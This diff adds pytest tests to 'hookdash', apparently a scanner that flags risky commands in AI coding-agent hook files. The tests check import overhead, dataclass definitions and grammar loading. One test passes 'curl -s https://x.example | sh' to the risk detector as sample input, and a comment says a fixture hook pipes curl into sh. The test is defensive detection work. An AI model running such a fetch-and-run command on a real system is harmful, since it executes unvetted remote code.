@@ -128,6 +128,90 @@ def test_scan_imports_no_pydantic(sandbox: Sandbox, fmt: str) -> None:
     assert {".claude/skills/deploy/SKILL.md", ".claude/agents/a.md"} <= {h["file"] for h in hooks}
 
 
+@pytest.mark.parametrize("fmt", ["json", "text", "sarif", "github"])
+def test_scan_imports_no_hashing_nor_file_utilities(sandbox: Sandbox, fmt: str) -> None:
+    """`scan` hashes nothing (OpenSSL's library is hashlib's import), prints no help
+    (argparse sizes a help formatter with shutil, which imports the compression modules)
+    and reads no package data through importlib.resources (tempfile, random): tree-sitter-
+    bash's grammar is loaded from its extension module, not through the package."""
+    write_every_record(sandbox.workspace)
+    argv = ["scan", str(sandbox.workspace), "--format", fmt]
+    heavy = ("hashlib", "_hashlib", "shutil", "importlib.resources", "tempfile", "bz2")
+    loaded, out = _run(sandbox, argv, *heavy, "tree_sitter_bash", "tree_sitter")
+    assert loaded == ["tree_sitter"]  # the grammar was used: a hook pipes curl into sh
+    assert "pipe-to-shell" in out or fmt == "github"
+
+
+_DATACLASSES = (
+    "import dataclasses, sys\n"
+    "from hookdash import cli\n"
+    "cli.main({argv!r})\n"
+    "own = {{'__eq__', '__repr__'}}\n"
+    "found = sorted(\n"
+    "    (f'{{c.__module__}}.{{c.__qualname__}}', sorted(set(vars(c)) & own))\n"
+    "    for name, m in list(sys.modules.items()) if name.startswith('hookdash')\n"
+    "    for c in vars(m).values()\n"
+    "    if isinstance(c, type) and c.__module__ == name and dataclasses.is_dataclass(c)\n"
+    ")\n"
+    "print(found, file=sys.stderr)\n"
+)
+
+
+def test_scan_defines_only_the_dataclasses_it_must(sandbox: Sandbox) -> None:
+    """Defining a dataclass compiles its methods at import (half a millisecond for a
+    frozen one): the records scan uses inside hookdash are plain classes. Those left are
+    its report (a schema pydantic reads), the entries readers change with
+    dataclasses.replace, and the findings pydantic models hold; none compiles its own
+    __eq__ or __repr__ (record_class.ByValue gives them to those compared by value)."""
+    write_every_record(sandbox.workspace)
+    code = _DATACLASSES.format(argv=["scan", str(sandbox.workspace), "--format", "json"])
+    result = subprocess.run(
+        [sys.executable, "-c", code],
+        cwd=sandbox.workspace,
+        env=sandbox.environ,
+        capture_output=True,
+        text=True,
+        check=False,
+    )
+    found = ast.literal_eval(result.stderr.strip().splitlines()[-1])
+    assert sorted(name for name, _ in found) == [
+        "hookdash.core.findings.RiskFlag",
+        "hookdash.core.findings.RiskSpan",
+        "hookdash.core.findings.Unknown",
+        "hookdash.core.hosts.claude.files.ParseError",
+        "hookdash.core.other_agents.AlsoRunBy",
+        "hookdash.core.scan.model.AgentFiles",
+        "hookdash.core.scan.model.DiffReport",
+        "hookdash.core.scan.model.Finding",
+        "hookdash.core.scan.model.ScanReport",
+        "hookdash.core.scan.model.ScannedHook",
+        "hookdash.core.scan.reader.Entry",
+        "hookdash.core.scan.reader.Skipped",
+        "hookdash.core.scripts.ScriptInfo",
+    ]
+    assert all(own == [] for _, own in found), found
+
+
+def test_the_bash_grammar_loads_through_its_package_once_imported() -> None:
+    """When something imported tree-sitter-bash's package already (the dashboard's syntax
+    highlighting may), the parser takes the grammar from it: same flags either way."""
+    code = (
+        "import sys\n"
+        "first = sys.argv[1] == 'package'\n"
+        "if first:\n"
+        "    import tree_sitter_bash\n"
+        "from hookdash.core.load.risks import command_risks\n"
+        "print(sorted(f.kind for f in command_risks('curl -s https://x.example | sh')))\n"
+    )
+    answers = [
+        subprocess.run(
+            [sys.executable, "-c", code, how], capture_output=True, text=True, check=True
+        ).stdout
+        for how in ("package", "binding")
+    ]
+    assert answers[0] == answers[1] == "['network', 'pipe-to-shell']\n"
+
+
 def test_the_risk_readers_compile_no_pattern_at_import() -> None:
     """Their patterns compile on first use: a start-up pays only for those it uses."""
     code = (
